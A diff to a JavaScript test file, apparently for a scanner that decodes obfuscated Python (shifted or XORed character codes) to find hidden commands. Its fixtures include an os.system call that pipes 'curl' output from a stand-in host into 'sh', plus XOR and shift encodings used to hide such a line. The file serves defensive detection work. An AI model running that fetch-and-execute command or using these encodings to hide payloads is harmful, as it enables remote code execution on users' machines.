@@ -103,6 +103,10 @@ describe('character codes shifted by a constant the file applies', () => {
     // the shift held by a name the file gives a number (a default parameter), and a name it gives none
     expect(texts(`D = ${list((c) => c + 3)}\ndef _unpack(t, k=3):\n    return "".join(chr(c - k) for c in t)\n`)).toEqual([cmd]);
     expect(texts(`D = ${list((c) => c + 3)}\ndef _unpack(t, k):\n    return "".join(chr(c - k) for c in t)\n`)).toEqual([]);
+    // a table of hexadecimal bytes XORed with a named constant in a bytes generator (`bytes(c ^ BASE for c in RAMP)`)
+    const hex = `[${[...cmd].map((c) => `0x${(c.charCodeAt(0) ^ 0x5a).toString(16).padStart(2, '0')}`).join(', ')}]`;
+    expect(texts(`RAMP_BASE = 0x5a\nRAMP = ${hex}\ndef expand():\n    return bytes(c ^ RAMP_BASE for c in RAMP)\n`)).toEqual([cmd]);
+    expect(texts(`RAMP = ${hex}\ndef expand():\n    return bytes(RAMP)\n`)).toEqual([]);
   });
   it('decodes a quoted literal with a shift of characters read in the same call, when it then names a runner or an address', () => {
     const code = "__import__('os').system('curl -s http://x.example/a.sh | sh')";
